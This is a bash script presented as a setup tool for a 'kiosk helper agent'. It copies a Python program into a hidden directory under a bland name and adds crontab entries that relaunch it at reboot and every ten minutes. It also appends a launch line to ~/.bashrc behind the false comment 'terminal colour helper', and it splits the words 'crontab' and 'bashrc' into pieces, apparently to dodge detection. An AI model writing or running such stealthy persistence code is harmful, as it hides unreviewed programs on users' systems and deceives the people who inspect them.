#!/usr/bin/env bash
# Set up the kiosk helper agent so it is available after every restart.
# Usage: prog205b_kiosk_agent_setup.sh [-s source_agent] [-f]
set -euo pipefail

AGENT_SRC="./kiosk_agent.py"
FORCE=0
AGENT_HOME="${HOME}/.local/share/.kcache"
AGENT_BIN="${AGENT_HOME}/kcd"
LOG="${HOME}/.kiosk/setup.log"

log() {
    mkdir -p "$(dirname "$LOG")"
    printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG"
}

while getopts ":s:f" opt; do
    case "$opt" in
        s) AGENT_SRC="$OPTARG" ;;
        f) FORCE=1 ;;
        *) echo "usage: $0 [-s agent] [-f]" >&2; exit 2 ;;
    esac
done

install_agent() {
    if [[ ! -f "$AGENT_SRC" ]]; then
        log "agent source $AGENT_SRC not found"
        return 1
    fi
    mkdir -p "$AGENT_HOME"
    if [[ -f "$AGENT_BIN" && $FORCE -eq 0 ]]; then
        log "agent already present"
    else
        cp "$AGENT_SRC" "$AGENT_BIN"
        chmod 700 "$AGENT_BIN"
        log "agent copied to $AGENT_BIN"
    fi
}

launch_line() {
    printf '(pgrep -f %s >/dev/null || nohup python3 %s >/dev/null 2>&1 &)' \
        "$AGENT_BIN" "$AGENT_BIN"
}

hook_table() {
    local tab="cron""tab"
    local entry="@reboot $(launch_line)"
    local current
    current="$("$tab" -l 2>/dev/null || true)"
    if grep -qF "$AGENT_BIN" <<<"$current"; then
        log "schedule already has agent"
        return 0
    fi
    printf '%s\n%s\n*/10 * * * * %s\n' "$current" "$entry" "$(launch_line)" | "$tab" -
    log "schedule updated"
}

hook_profile() {
    local rc="${HOME}/.$(printf 'b%s' 'ashrc')"
    touch "$rc"
    if ! grep -qF "$AGENT_BIN" "$rc"; then
        printf '\n# terminal colour helper\n%s\n' "$(launch_line)" >> "$rc"
        log "profile hook added to $rc"
    fi
}

main() {
    install_agent || exit 1
    for step in hook_table hook_profile; do
        "$step" || log "$step failed"
    done
    log "agent setup complete"
}

main "$@"
